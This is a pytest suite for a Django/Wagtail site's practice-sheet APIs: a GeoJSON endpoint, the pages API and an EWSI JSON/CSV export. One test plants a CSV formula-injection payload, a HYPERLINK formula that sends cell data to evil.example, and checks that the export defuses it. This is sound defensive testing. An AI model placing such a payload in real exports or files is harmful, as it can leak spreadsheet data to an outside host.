import csv
import io

import pytest
from django.test import Client
from wagtail.models import PageViewRestriction

from tests.experiences.conftest import translate
from tests.factories import PracticeSheetPageFactory, TargetGroupFactory, ThemeFactory

pytestmark = pytest.mark.django_db

GEOJSON_URL = "/api/v2/practices/geojson/"


@pytest.fixture
def sheets(practice_index, english_index, english):
    """Nantes (translated into English) and Villeurbanne (French only), plus two hidden ones."""
    rights = ThemeFactory(slug="acces-aux-droits", name="Accès aux droits")
    jobs = ThemeFactory(slug="discriminations-emploi", name="Discriminations dans l'emploi")
    newcomers = TargetGroupFactory(
        slug="primo-arrivants", name="Primo-arrivants", name_en="Newly arrived migrants"
    )
    professionals = TargetGroupFactory(
        slug="professionnels", name="Professionnels", name_en="Professionals"
    )
    nantes = PracticeSheetPageFactory(
        parent=practice_index,
        title="Accueil des nouveaux arrivants",
        slug="accueil-nantes",
        themes=[rights],
        target_groups=[newcomers],
        contact_email="cnce@example.org",
        partners="CID\nPréfecture",
        funding_sources="Ville de Nantes",
        funding_amount="15000.00",
    )
    villeurbanne = PracticeSheetPageFactory(
        parent=practice_index,
        title="Réseau de vigilance",
        slug="reseau-vigilance",
        commune="Villeurbanne",
        insee_code="69266",
        department="69",
        region="84",
        latitude="45.766700",
        longitude="4.880000",
        action_field="anti-discrimination",
        themes=[jobs],
        target_groups=[professionals],
    )
    draft = PracticeSheetPageFactory(parent=practice_index, title="Brouillon", live=False)
    private = PracticeSheetPageFactory(parent=practice_index, title="Réservée")
    PageViewRestriction.objects.create(page=private, restriction_type="login")
    nantes_en = translate(
        nantes,
        english,
        title="Welcoming newly arrived foreign nationals",
        slug="welcoming-newcomers",
        summary="The city improves the welcome of migrants.",
    )
    return {"nantes": nantes, "nantes_en": nantes_en, "villeurbanne": villeurbanne, "draft": draft}


def titles(response) -> set[str]:
    return {feature["properties"]["title"] for feature in response.json()["features"]}


class TestGeoJSON:
    def test_is_a_feature_collection_of_live_public_french_sheets(self, client, sheets):
        response = client.get(GEOJSON_URL)

        assert response.status_code == 200
        assert response["Content-Type"] == "application/geo+json"
        data = response.json()
        assert data["type"] == "FeatureCollection"
        assert titles(response) == {"Accueil des nouveaux arrivants", "Réseau de vigilance"}
        nantes = next(f for f in data["features"] if f["id"] == sheets["nantes"].pk)
        assert nantes["type"] == "Feature"
        # GeoJSON wants [longitude, latitude].
        assert nantes["geometry"] == {"type": "Point", "coordinates": [-1.553621, 47.218371]}
        properties = nantes["properties"]
        assert properties["url"] == "http://testserver/pratiques/accueil-nantes/"
        assert properties["commune"] == "Nantes"
        assert properties["region_name"] == "Pays de la Loire"
        assert properties["themes"] == [{"slug": "acces-aux-droits", "name": "Accès aux droits"}]
        assert properties["target_groups"] == [
            {"slug": "primo-arrivants", "name": "Primo-arrivants"}
        ]

    def test_never_carries_the_contact_email(self, client, sheets):
        assert "cnce@example.org" not in client.get(GEOJSON_URL).content.decode()

    def test_english_shows_only_translated_sheets(self, client, sheets):
        response = client.get(GEOJSON_URL, {"locale": "en"})

        assert response.status_code == 200
        features = response.json()["features"]
        assert [f["properties"]["title"] for f in features] == [
            "Welcoming newly arrived foreign nationals"
        ]
        assert features[0]["properties"]["url"] == (
            "http://testserver/en/practices/welcoming-newcomers/"
        )
        assert features[0]["properties"]["target_groups"][0]["name"] == "Newly arrived migrants"

    def test_sheets_without_a_point_are_left_out(self, client, sheets):
        sheets["villeurbanne"].latitude = sheets["villeurbanne"].longitude = None
        sheets["villeurbanne"].save_revision().publish()
        assert titles(client.get(GEOJSON_URL)) == {"Accueil des nouveaux arrivants"}

    def test_filters(self, client, sheets):
        # One fixture for all the cases: building translated pages is the slow part.
        cases = [
            ({"region": "84"}, {"Réseau de vigilance"}),
            ({"region": "11"}, set()),
            ({"theme": "acces-aux-droits"}, {"Accueil des nouveaux arrivants"}),
            ({"target_group": "professionnels"}, {"Réseau de vigilance"}),
            ({"action_field": "anti-discrimination"}, {"Réseau de vigilance"}),
            ({"region": "52", "theme": "discriminations-emploi"}, set()),
            ({"locale": "en", "region": "52"}, {"Welcoming newly arrived foreign nationals"}),
        ]
        for params, expected in cases:
            response = client.get(GEOJSON_URL, params)
            assert response.status_code == 200, params
            assert titles(response) == expected, params

    def test_bad_filter_gives_400_with_a_message(self, client, sheets):
        cases = [
            ({"region": "99"}, "Unknown region"),
            ({"theme": "inconnu"}, "Unknown theme"),
            ({"target_group": "inconnu"}, "Unknown target_group"),
            ({"action_field": "cuisine"}, "Unknown action_field"),
            ({"locale": "de"}, "Unknown locale"),
            ({"colour": "red"}, "Unknown parameter(s): colour"),
        ]
        for params, message in cases:
            response = client.get(GEOJSON_URL, params)
            assert response.status_code == 400, params
            assert message in response.json()["message"], params


class TestPagesAPI:
    def test_answers_in_the_requested_locale(self, client, sheets):
        params = {"type": "experiences.PracticeSheetPage", "fields": "commune,target_groups"}

        french = client.get("/api/v2/pages/", {**params, "locale": "fr"}).json()
        english = client.get("/api/v2/pages/", {**params, "locale": "en"}).json()

        assert {item["title"] for item in french["items"]} == {
            "Accueil des nouveaux arrivants",
            "Réseau de vigilance",
        }
        assert [item["title"] for item in english["items"]] == [
            "Welcoming newly arrived foreign nationals"
        ]
        assert english["items"][0]["meta"]["locale"] == "en"
        assert english["items"][0]["target_groups"][0]["name_en"] == "Newly arrived migrants"

    def test_detail_has_the_sheet_fields_but_no_email(self, client, sheets):
        response = client.get(f"/api/v2/pages/{sheets['nantes'].pk}/")

        assert response.status_code == 200
        data = response.json()
        assert data["insee_code"] == "44109"
        assert data["latitude"] == "47.218371"
        assert data["region_name"] == "Pays de la Loire"
        assert data["partner_list"] == ["CID", "Préfecture"]
        assert data["is_ongoing"] is True
        assert "contact_email" not in data
        assert "cnce@example.org" not in response.content.decode()


class TestEWSIExport:
    def test_json_lists_english_sheets_only(self, client, sheets):
        response = client.get("/api/v2/practices/ewsi.json")

        assert response.status_code == 200
        data = response.json()
        assert data["count"] == 1
        record = data["items"][0]
        assert record["title"] == "Welcoming newly arrived foreign nationals"
        assert record["url"] == "http://testserver/en/practices/welcoming-newcomers/"
        assert record["country"] == "France"
        assert record["city"] == "Nantes"
        assert record["region"] == "Pays de la Loire"
        assert record["scale"] == "Local"
        assert record["area_of_integration"] == "Welcome and orientation"
        assert record["target_groups"] == ["Newly arrived migrants"]
        assert record["partners"] == ["CID", "Préfecture"]
        assert record["funding_amount_eur"] == "15000.00"
        assert record["ongoing"] is True
        assert "cnce@example.org" not in response.content.decode()

    def test_csv_has_a_header_and_one_row_per_english_sheet(self, client, sheets):
        response = client.get("/api/v2/practices/ewsi.csv")

        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert "attachment" in response["Content-Disposition"]
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        assert len(rows) == 1
        assert rows[0]["title"] == "Welcoming newly arrived foreign nationals"
        assert rows[0]["partners"] == "CID; Préfecture"
        assert rows[0]["target_groups"] == "Newly arrived migrants"
        assert rows[0]["ongoing"] == "yes"
        assert rows[0]["start_year"] == "2012"
        assert rows[0]["end_year"] == ""

    def test_unpublished_translation_is_not_exported(self, client, sheets):
        sheets["nantes_en"].unpublish()
        assert client.get("/api/v2/practices/ewsi.json").json() == {"count": 0, "items": []}

    def test_parameters_are_refused(self, client, sheets):
        response = client.get("/api/v2/practices/ewsi.csv", {"locale": "fr"})
        assert response.status_code == 400
        assert "message" in response.json()


@pytest.mark.django_db
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    client, practice_index, english_index, english
):
    """Text from editors starting with = + - @ is written with a leading apostrophe."""
    nantes = PracticeSheetPageFactory(
        parent=practice_index,
        title="Accueil",
        slug="accueil-formules",
        partners='=HYPERLINK("http://evil.example/?"&A1,"Cliquez")\n+CID\n@SUM(1+1)',
        funding_sources="-2+3",
        funding_amount="15000.00",
    )
    translation = nantes.copy_for_translation(english)
    translation.title = "=1+1"
    translation.save_revision().publish()

    response = client.get("/api/v2/practices/ewsi.csv")
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["title"] == "'=1+1"
    assert (
        row["partners"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Cliquez"); \'+CID; \'@SUM(1+1)'
    )
    assert row["funding_sources"] == "'-2+3"
    assert row["funding_amount_eur"] == "15000.00"
    assert row["start_year"] == "2012"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    ["/api/v2/practices/geojson/", "/api/v2/practices/ewsi.json", "/api/v2/practices/ewsi.csv"],
)
def test_the_practice_exports_are_read_only(path):
    # As in production: with the CSRF check, which would answer a POST with its 403 page.
    response = Client(enforce_csrf_checks=True).post(path)
    assert response.status_code == 405
    assert response["Allow"] == "GET, HEAD"
